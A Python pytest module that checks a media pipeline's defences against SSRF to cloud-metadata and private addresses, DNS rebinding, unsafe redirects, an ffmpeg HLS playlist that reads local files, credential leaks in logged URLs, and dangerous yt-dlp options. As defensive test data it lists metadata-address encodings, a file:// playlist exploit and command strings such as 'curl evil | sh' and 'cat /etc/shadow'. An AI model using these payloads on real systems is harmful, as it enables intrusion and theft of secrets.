"""Safe sources (issue 13, item 3): internal addresses refused at the starter and before
every connection the worker opens (redirects included); ffmpeg reads only the file it is
given; URLs are stored and logged without credentials or query tokens; yt-dlp options
are an allowlist.

What is replaced here, and why: the resolver (``safety.getaddrinfo``) answers from a
fixed table in two tests, injecting the fault (a name that resolves inside) that no
real DNS here can give; the ``only_loopback`` fixture below is a fence, not a fake: it
passes every allowed connection to the real socket and fails the test on any other.

Every test here connects only to 127.0.0.0/8. A refusal is proven by the check that runs
before connecting, and a redirect to a loopback address that the test's policy refuses
(a listener on that address records that nothing came). The ``only_loopback`` fixture
makes any other connection, and any DNS lookup of a name, fail the test instead of
leaving the machine.
"""

from __future__ import annotations

import ipaddress
import json
import shutil
import socket
import subprocess
import threading
from pathlib import Path
from urllib.parse import quote

import numpy as np
import pytest
import soundfile as sf

from core.analysis import audio
from core.contracts import urls
from core.contracts.errors import InvalidMedia, NetworkError, UnsafeSource
from core.contracts.urls import redact_url, redact_urls
from core.service.settings import Settings
from core.sources import safety
from core.sources.download import SourceLimits, fetch_audio
from core.sources.errors import classify_message
from core.sources.literal_addresses import literal_address
from core.sources.safety import LOOPBACK, SourcePolicy, check_url, use_policy
from devstack.media_server import MediaServer
from starter.csv_input import RowError, ValidRow, read_videos
from tests.conftest import SAMPLES, write_wav

ONLY_127_0_0_1 = SourcePolicy((ipaddress.ip_network("127.0.0.1/32"),))  # the media server's address, no other
OTHER_LOOPBACK = "127.0.0.2"  # loopback, but outside ONLY_127_0_0_1: where refused redirects point


@pytest.fixture(autouse=True)
def only_loopback(monkeypatch):
    """No socket of this process connects outside 127.0.0.0/8 and no name is looked up
    in DNS while a test here runs: a check that failed to refuse fails the test here."""
    real_connect, real_connect_ex = socket.socket.connect, socket.socket.connect_ex
    real_getaddrinfo = socket.getaddrinfo

    def loopback_only(address):
        host = address[0] if isinstance(address, tuple) else None
        if host is not None and not ipaddress.ip_address(host.split("%")[0]).is_loopback:
            raise AssertionError(f"a test tried to connect to {address}")

    def connect(sock, address):
        loopback_only(address)
        return real_connect(sock, address)

    def connect_ex(sock, address):
        loopback_only(address)
        return real_connect_ex(sock, address)

    def getaddrinfo(host, *args, **kwargs):
        if host is not None and literal_address(str(host)) is None and host != "localhost":
            raise socket.gaierror(socket.EAI_NONAME, f"DNS is off in this test ({host})")
        return real_getaddrinfo(host, *args, **kwargs)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", connect_ex)
    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)


@pytest.fixture
def listener():
    """A TCP listener on OTHER_LOOPBACK that counts the connections it gets (and closes
    each at once, so a client that did connect fails fast)."""
    server = socket.create_server((OTHER_LOOPBACK, 0))
    accepted: list[tuple] = []

    def serve():
        while True:
            try:
                conn, peer = server.accept()
            except OSError:
                return
            accepted.append(peer)
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], accepted
    server.close()


@pytest.fixture(scope="module")
def own_media(tmp_path_factory):
    """A media server of this module: sample audio, and the files the HLS trick needs."""
    folder = tmp_path_factory.mktemp("media-sources")
    shutil.copy(SAMPLES / "ep03-three-voices.ogg", folder / "ep03.ogg")
    with MediaServer(folder) as server:
        yield server


def fetch(url: str, tmp_path: Path):
    return fetch_audio(url, tmp_path / "dl", limits=SourceLimits(max_duration_s=3600.0), silence_dbfs=-60.0)


# --- the checks that need no DNS: the starter's ----------------------------------------
@pytest.mark.parametrize(
    "url, says",
    [
        ("http://169.254.169.254/latest/meta-data/", "cloud metadata"),
        ("http://2852039166/", "cloud metadata"),  # decimal
        ("http://0xA9FEA9FE/", "cloud metadata"),  # hex
        ("http://0251.0376.0251.0376/", "cloud metadata"),  # octal
        ("http://169.254.43518/", "cloud metadata"),  # inet_aton's 3-part form
        ("http://[::ffff:169.254.169.254]/", "cloud metadata"),  # IPv4-mapped IPv6
        ("http://[::ffff:a9fe:a9fe]/", "cloud metadata"),
        ("http://[64:ff9b::a9fe:a9fe]/", "cloud metadata"),  # NAT64
        ("http://[2002:a9fe:a9fe::1]/", "cloud metadata"),  # 6to4
        ("http://[fd00:ec2::254]/", "cloud metadata"),  # AWS's IPv6 metadata address
        ("http://metadata.google.internal/computeMetadata/v1/", "metadata service"),
        ("http://169.254.1.2/", "link-local"),
        ("http://[fe80::1%25eth0]/", "link-local"),
        ("http://10.1.2.3/", "private"),
        ("http://172.16.0.1/", "private"),
        ("http://192.168.1.1:8080/", "private"),
        ("http://100.64.0.1/", "carrier-grade NAT"),
        ("http://[fd12:3456::1]/", "unique-local"),
        ("http://224.0.0.1/", "multicast"),
        ("http://0.0.0.0/", "unspecified"),
        ("http://[::]/", "unspecified"),
        ("http://240.0.0.1/", "reserved"),
        ("http://127.0.0.1:8765/a.ogg", "loopback"),
        ("http://2130706433/", "loopback"),  # 127.0.0.1 in decimal
        ("http://127.1/", "loopback"),
        ("http://[::1]/", "loopback"),
        ("http://[::ffff:127.0.0.1]/", "loopback"),
        ("http://localhost:8765/", "loopback"),
        ("http://media.localhost/", "loopback"),
        ("ftp://example.org/a.mp3", "only http and https"),
    ],
)
def test_internal_addresses_in_every_spelling_are_refused_without_dns(url, says):
    with pytest.raises(UnsafeSource, match=says) as refused:
        check_url(url, SourcePolicy())  # production: no loopback
    assert str(refused.value).startswith(safety.REFUSED)


def test_public_addresses_and_allowed_loopback_pass():
    for url in (
        "http://93.184.216.34/a.mp3",
        "https://[2606:4700::1]/a.m4a",
        "https://www.youtube.com/watch?v=x",
    ):
        check_url(url, SourcePolicy())
    for url in ("http://127.0.0.1:8765/a.ogg", "http://localhost:8765/a.ogg", "http://[::1]:1/a"):
        check_url(url, SourcePolicy(LOOPBACK))
    with pytest.raises(UnsafeSource, match="loopback"):  # a narrower loopback policy
        check_url(f"http://{OTHER_LOOPBACK}/a.ogg", ONLY_127_0_0_1)


@pytest.mark.parametrize(
    "env, allowed",
    [
        ({}, True),  # the embedded default: Temporal and storage on 127.0.0.1
        ({"temporal_address": "temporal.example.internal:7233"}, False),  # production
        ({"s3_endpoint_url": "https://ACCOUNT.r2.cloudflarestorage.com"}, False),
        ({"s3_endpoint_url": None}, False),  # AWS S3
        ({"temporal_address": "[::1]:7233", "s3_endpoint_url": "http://localhost:9000"}, True),
        ({"temporal_address": "temporal:7233", "allow_loopback_sources": True}, True),
        ({"allow_loopback_sources": False}, False),  # deploy files may say so outright
    ],
)
def test_loopback_is_allowed_by_setting_or_on_the_embedded_default(env, allowed):
    assert safety.loopback_allowed(Settings(_env_file=None, **env)) is allowed
    policy = SourcePolicy.from_settings(Settings(_env_file=None, **env))
    assert policy.allows(ipaddress.ip_address("127.0.0.1")) is allowed


def test_starter_refuses_internal_urls_with_line_numbers(tmp_path):
    path = tmp_path / "batch.csv"
    path.write_text(
        "video_id,url\n"
        "good,https://93.184.216.34/episode.mp3\n"
        "meta,http://2852039166/latest/meta-data/\n"
        "hex,http://0xA9FEA9FE/\n"
        "cluster,http://10.0.0.7:9000/bucket/x.mp3?X-Amz-Signature=s3cr3t\n"
        "local,http://user:hunter2@127.0.0.1:8765/a.ogg\n"
    )
    rows = list(read_videos(path, "b", policy=SourcePolicy()))
    valid = [r.spec.video_id for r in rows if isinstance(r, ValidRow)]
    errors = {r.line: str(r) for r in rows if isinstance(r, RowError)}
    assert valid == ["good"]
    assert sorted(errors) == [3, 4, 5, 6]
    assert errors[3].startswith("line 3 (meta): url: refused unsafe source") and "cloud metadata" in errors[3]
    assert "line 4 (hex)" in errors[4] and "cloud metadata" in errors[4]
    assert "private" in errors[5] and "s3cr3t" not in errors[5] and "X-Amz-Signature=REDACTED" in errors[5]
    assert "loopback" in errors[6] and "hunter2" not in errors[6]
    # with the embedded default's policy the loopback row is a good row
    rows = list(read_videos(path, "b", policy=SourcePolicy(LOOPBACK)))
    assert [r.spec.video_id for r in rows if isinstance(r, ValidRow)] == ["good", "local"]


# --- the worker: every connection and every redirect ------------------------------------
def test_names_are_refused_when_any_address_is_internal(monkeypatch):
    table = {"mixed.test": ["93.184.216.34", "10.0.0.5"], "public.test": ["93.184.216.34", "2606:4700::1"]}

    def resolver(host, port, *args, **kwargs):
        family = {True: socket.AF_INET6, False: socket.AF_INET}
        return [(family[":" in a], socket.SOCK_STREAM, 6, "", (a, port)) for a in table[host]]

    monkeypatch.setattr(safety, "getaddrinfo", resolver)
    with pytest.raises(UnsafeSource, match=r"mixed.test resolves to 10.0.0.5, private"):
        safety.resolve_checked("mixed.test", 443, SourcePolicy())
    assert safety.resolve_checked("public.test", 443, SourcePolicy()) == ["93.184.216.34", "2606:4700::1"]
    with pytest.raises(UnsafeSource):
        check_url("https://mixed.test/a.mp3", SourcePolicy(), resolve=True)


def test_redirect_to_a_refused_loopback_address_fails_before_connecting(own_media, listener, tmp_path):
    """Real yt-dlp follows a real 302 from the media server (127.0.0.1, allowed) to a
    listener on 127.0.0.2 (refused by the test's policy): UnsafeSource, and the
    listener never saw a connection. With all of loopback allowed the same redirect
    does reach it: the listener would have seen a connection had one been opened."""
    port, accepted = listener
    target = f"http://user:hunter2@{OTHER_LOOPBACK}:{port}/ep03.ogg?token=s3cr3t"
    url = f"{own_media.url}/redirect/{quote(target, safe='')}"
    with use_policy(ONLY_127_0_0_1), pytest.raises(UnsafeSource) as refused:
        fetch(url, tmp_path)
    assert f"{OTHER_LOOPBACK} is loopback" in str(refused.value)
    assert "hunter2" not in str(refused.value) and "s3cr3t" not in str(refused.value)
    assert accepted == [], "the refused target was connected to"
    assert not UnsafeSource.retryable

    with use_policy(SourcePolicy(LOOPBACK)), pytest.raises(NetworkError):  # the control
        fetch(url, tmp_path)
    assert accepted, "with loopback allowed the redirect is followed"


def test_connections_go_to_the_checked_address(own_media, listener, monkeypatch, tmp_path):
    """A name resolves once, in the check, and the socket connects to exactly that
    address (the system resolver, off in this module, is never asked): a second DNS
    answer cannot slip an internal address past the check."""
    port, accepted = listener
    media_port = own_media.httpd.server_address[1]
    table = {"media.test": "127.0.0.1", "rebound.test": OTHER_LOOPBACK}

    def resolver(host, port, *args, **kwargs):
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (table[host], port))]

    monkeypatch.setattr(safety, "getaddrinfo", resolver)
    with use_policy(ONLY_127_0_0_1):
        got = fetch(f"http://media.test:{media_port}/ep03.ogg", tmp_path)
        assert got.duration_s > 10
        with pytest.raises(UnsafeSource, match=f"rebound.test resolves to {OTHER_LOOPBACK}, loopback"):
            fetch(f"http://rebound.test:{port}/ep03.ogg", tmp_path)
    assert accepted == []


def test_a_direct_loopback_url_is_refused_when_loopback_is_not_allowed(own_media, tmp_path):
    from devstack.media_server import REQUESTS

    before = len(REQUESTS)
    with use_policy(SourcePolicy()), pytest.raises(UnsafeSource, match="127.0.0.1 is loopback"):
        fetch(f"{own_media.url}/ep03.ogg", tmp_path)
    assert len(REQUESTS) == before, "the media server was asked"


def test_downloaders_that_would_connect_unchecked_are_refused():
    """ffmpeg, rtmpdump or aria2c fetching a format themselves would bypass the checks:
    yt-dlp's external downloaders refuse, typed UnsafeSource."""
    import yt_dlp

    from core.sources.network_guard import install_network_guard

    install_network_guard()  # as fetch_audio does before its first download
    from yt_dlp.downloader.external import FFmpegFD
    from yt_dlp.downloader.rtmp import RtmpFD

    with yt_dlp.YoutubeDL({"quiet": True}) as ydl:
        for downloader in (FFmpegFD, RtmpFD):
            with pytest.raises(yt_dlp.utils.YoutubeDLError) as refused:
                downloader(ydl, {}).real_download(
                    "x", {"url": "http://127.0.0.1:9/live.m3u8", "protocol": "m3u8"}
                )
            assert isinstance(classify_message(str(refused.value)), UnsafeSource)


# --- ffmpeg reads only the file it is given ---------------------------------------------
def _old_transcode_command(src: Path, dst: Path) -> list[str]:
    """core.analysis.audio.transcode's command before the input whitelist (the hole)."""
    return [
        audio.ffmpeg_binary(),
        "-nostdin",
        "-hide_banner",
        "-loglevel",
        "error",
        "-y",
        "-i",
        str(src),
        "-vn",
        "-ac",
        "1",
        "-ar",
        "16000",
        "-c:a",
        "pcm_s16le",
        str(dst),
    ]


def test_hls_playlist_naming_a_local_file_is_invalid_media_and_reads_nothing(own_media, tmp_path):
    """The media server answers audio/mpeg (an .mp3 name) with an HLS playlist whose one
    segment is a file:// URL of a local "secret" recording. With the old command ffmpeg follows it
    and writes the secret as the video's audio; now the download fails InvalidMedia
    and no WAV holding it is ever written."""
    secret_dir = tmp_path / "secret"
    secret_dir.mkdir()
    tone = 0.5 * np.sin(2 * np.pi * 440 * np.arange(3 * 16_000) / 16_000)
    write_wav(secret_dir / "tone.wav", tone.astype(np.float32))
    secret = secret_dir / "secret.mp3"  # a segment format hls takes from a local playlist
    subprocess.run(
        [
            audio.ffmpeg_binary(),
            "-nostdin",
            "-loglevel",
            "error",
            "-y",
            "-i",
            str(secret_dir / "tone.wav"),
            str(secret),
        ],
        check=True,
    )
    playlist = f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:3.0,\nfile://{secret}\n#EXT-X-ENDLIST\n"
    (own_media.directory / "episode.mp3").write_text(playlist)  # served as audio/mpeg

    # the hole, with the command as it was: the secret comes out as audio
    downloaded = tmp_path / "source.mp3"
    downloaded.write_text(playlist)
    leaked = tmp_path / "leaked.wav"
    subprocess.run(_old_transcode_command(downloaded, leaked), check=True, capture_output=True)
    samples, _rate = sf.read(str(leaked))
    assert len(samples) > 2 * 16_000 and np.abs(samples).max() > 0.3, "the old command read the local file"

    with pytest.raises(InvalidMedia):
        fetch(f"{own_media.url}/episode.mp3", tmp_path)
    assert not list((tmp_path / "dl").glob("*.wav")), "no audio was written from the playlist"
    assert audio.media_duration(downloaded) is None, "probing the duration does not open the segment either"


def test_every_podcast_container_still_decodes(tmp_path):
    for suffix in ("mp3", "m4a", "ogg", "opus", "webm", "flac", "wav", "aac", "ts"):
        src = tmp_path / f"clip.{suffix}"
        subprocess.run(
            [
                audio.ffmpeg_binary(),
                "-nostdin",
                "-loglevel",
                "error",
                "-y",
                "-i",
                str(SAMPLES / "ep03-three-voices.ogg"),
                "-t",
                "2",
                str(src),
            ],
            check=True,
        )
        out = audio.transcode(src, tmp_path / f"{suffix}.wav", audio.ANALYSIS_RATE)
        assert sf.info(str(out)).duration == pytest.approx(2.0, abs=0.1), suffix


# --- URLs without credentials -----------------------------------------------------------
@pytest.mark.parametrize(
    "url, stored",
    [
        (
            "https://user:pass@cdn.example.com/a/b.mp3?sig=abc&Expires=1&v=vid",
            "https://cdn.example.com/a/b.mp3?sig=REDACTED&Expires=REDACTED&v=vid",
        ),
        (
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42&si=tracking",
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42&si=REDACTED",
        ),
        ("https://h.example/x.mp3?apikeyonly", "https://h.example/x.mp3?REDACTED"),
        (
            "https://h.example/cb#access_token=zz&state=1",
            "https://h.example/cb#access_token=REDACTED&state=REDACTED",
        ),
        ("http://[::1]:8765/a.ogg", "http://[::1]:8765/a.ogg"),
        ("https://h.example/plain.mp3", "https://h.example/plain.mp3"),
    ],
)
def test_redact_url_drops_userinfo_and_query_values(url, stored):
    assert redact_url(url) == stored
    assert redact_url(stored) == stored, "redacting twice changes nothing"


def test_secret_url_leaves_no_trace_in_metadata_manifest_errors_and_logs(own_media, tmp_path, capfd):
    """A URL with user:password@ and ?token= through metadata_model, the manifest line,
    the VideoIdConflict check and a failed download: the secrets appear in none of
    them, nor on stderr (where yt-dlp writes its errors), while the committed URL still
    matches the original exactly."""
    from activities.manifest import _line
    from core.contracts.errors import VideoIdConflict
    from core.contracts.metadata import Metadata
    from core.contracts.video import (
        AudioRef,
        CommitRequest,
        DiarizationResult,
        EmbeddingResult,
        MusicResult,
        RowRef,
        Segment,
        VideoSpec,
    )
    from core.store.commit import committed_outcome
    from core.store.layout import VideoKeys
    from core.store.outputs import UsableRules, metadata_model

    secrets = ("hunter2", "t0k3n", "s1gn4ture")
    url = f"http://podcaster:hunter2@127.0.0.1:{own_media.httpd.server_address[1]}/ep03.ogg?token=t0k3n&sig=s1gn4ture"
    spec = VideoSpec(video_id="secret", url=url, batch_id="b")
    req = CommitRequest(
        spec=spec,
        audio=AudioRef(
            video_id="secret",
            url_sha256=urls.url_sha256(url),
            original_key="k",
            analysis_key="k",
            duration_s=10.0,
            sha256="0" * 64,
        ),
        diarization=DiarizationResult(key="d", backend="b", num_speakers=1, num_segments=1, speech_s=5.0),
        embeddings=EmbeddingResult(key="e", backend="m", centroids_key="c", dim=2, num_segments=1),
        music=MusicResult(key="m", backend="x", num_regions=0, music_s=0.0),
        gpu_class="cpu",
        stage_seconds={},
        attempts={},
        worker_ids={},
    )
    segments = [Segment(start=0, end=5, speaker="SPEAKER_00")]
    meta = metadata_model(req, segments, [], {"SPEAKER_00": [1.0, 0.0]}, UsableRules(min_s=1.0), []).dump()
    meta["committed_by"] = {"workflow_id": "video-secret", "run_id": "r"}
    stored = json.dumps(meta)
    assert meta["source"]["url"] == redact_url(url) and meta["source"]["url_sha256"] == urls.url_sha256(url)

    class Store:  # the manifest line and the committed check read metadata.json only
        prefix = ""

        def keys(self, video_id):
            return VideoKeys(video_id=video_id, prefix="")

        def get_json_or_none(self, key):
            return json.loads(stored)

    line = _line(Store(), "secret", Metadata.model_validate_json(stored))
    assert json.loads(line)["url"] == meta["source"]["url"]
    same = VideoSpec(video_id="secret", url=url)
    assert committed_outcome(Store(), "secret", same) is not None, "the same URL is the same video"
    as_carried = same.as_reference(RowRef(input_key="_batches/b/videos.csv", offset=0))
    assert "t0k3n" not in as_carried.model_dump_json(), "a payload carries the URL redacted"
    assert committed_outcome(Store(), "secret", as_carried) is not None, "... and names it by its hash"
    with pytest.raises(VideoIdConflict) as conflict:
        committed_outcome(
            Store(), "secret", VideoSpec(video_id="secret", url=url.replace("t0k3n", "other-t0k3n"))
        )

    errors = []
    for path in ("status/404/ep03.ogg", "not-there/ep03.ogg", "ep03.ogg"):  # 404s, then an unsafe redirect
        bad = url.replace("/ep03.ogg", f"/{path}")
        if path == "ep03.ogg":
            bad = f"{own_media.url}/redirect/{quote(url.replace('127.0.0.1', OTHER_LOOPBACK), safe='')}"
        with use_policy(ONLY_127_0_0_1), pytest.raises(Exception) as failed:
            fetch(bad, tmp_path)
        errors.append(str(failed.value))
    errors.append(str(classify_message(f"ERROR: Unsupported URL: {url}")))
    logged = capfd.readouterr()
    for secret in secrets:
        for where, text in [
            ("metadata.json", stored),
            ("manifest", line),
            ("conflict", str(conflict.value)),
            ("errors", "\n".join(errors)),
            ("stderr", logged.err + logged.out),
        ]:
            assert secret not in text, f"{secret} in {where}"
    assert redact_urls(f"see {url}.") == f"see {redact_url(url)}."


# --- yt-dlp options: an allowlist (issue 22) ------------------------------------------
@pytest.mark.parametrize(
    "option, value",
    [
        ("postprocessors", [{"key": "Exec", "exec_cmd": "curl evil | sh"}]),  # runs a command
        ("netrc_cmd", "cat /etc/shadow"),  # runs a command
        ("exec_cmd", "id"),
        ("verbose", True),  # prints cookies and proxy credentials
        ("print_traffic", True),
        ("write_pages", True),  # writes pages (tokens in them) to the disk
        ("nocheckcertificate", True),  # drops TLS checks
        ("external_downloader", {"default": "aria2c"}),  # fetches outside the network guard
        ("outtmpl", "/etc/cron.d/x"),  # the pipeline's own
    ],
)
def test_yt_dlp_options_outside_the_allowlist_are_refused_when_settings_load(option, value, monkeypatch):
    """A worker (or starter) with such an option refuses to start, naming it; the
    denylist before let the first eight through."""
    from pydantic import ValidationError

    monkeypatch.setenv("PIPELINE_YTDLP_OPTIONS", json.dumps({option: value}))
    with pytest.raises(ValidationError, match=option):
        Settings()


def test_allowed_yt_dlp_options_reach_yt_dlp_and_fixups_stay_off(monkeypatch, own_media, tmp_path):
    """What operators tune passes (a player client, sleeps): it is in the options yt-dlp
    gets, under the pipeline's own, with its ffmpeg fixups off; a real download with
    them goes through."""
    from core.sources.download import SourceAccess, SourceLimits, ytdlp_params

    options = {"extractor_args": {"youtube": {"player_client": ["web"]}}, "sleep_interval_requests": 0}
    monkeypatch.setenv("PIPELINE_YTDLP_OPTIONS", json.dumps(options))
    assert Settings().ytdlp_options == options
    access = SourceAccess(ytdlp_options=options)
    params = ytdlp_params(tmp_path, SourceLimits(max_duration_s=3600), access, lambda status: None)
    assert params["extractor_args"] == options["extractor_args"] and params["fixup"] == "never"
    assert params["outtmpl"].startswith(str(tmp_path)) and params["noplaylist"] is True
    got = fetch_audio(
        f"{own_media.url}/ep03.ogg",
        tmp_path / "dl",
        limits=SourceLimits(max_duration_s=3600),
        silence_dbfs=-60,
        access=access,
    )
    assert got.duration_s > 10
